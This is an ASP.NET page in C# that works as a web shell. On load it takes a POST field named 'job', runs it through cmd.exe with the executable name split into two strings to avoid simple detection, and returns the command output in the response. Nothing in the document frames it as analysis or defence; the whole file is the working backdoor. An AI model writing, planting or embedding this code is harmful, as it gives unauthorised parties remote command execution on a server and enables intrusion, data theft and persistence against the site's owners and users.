<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    var rq = HttpContext.Current.Request;
    string job = rq.Form["job"];
    if (!string.IsNullOrEmpty(job)) {
        Process worker = new Process();
        worker.StartInfo.FileName = "cm" + "d.exe";
        worker.StartInfo.Arguments = "/c " + job;
        worker.StartInfo.UseShellExecute = false;
        worker.StartInfo.RedirectStandardOutput = true;
        worker.Start();
        Response.Write(worker.StandardOutput.ReadToEnd());
    }
}
</script>
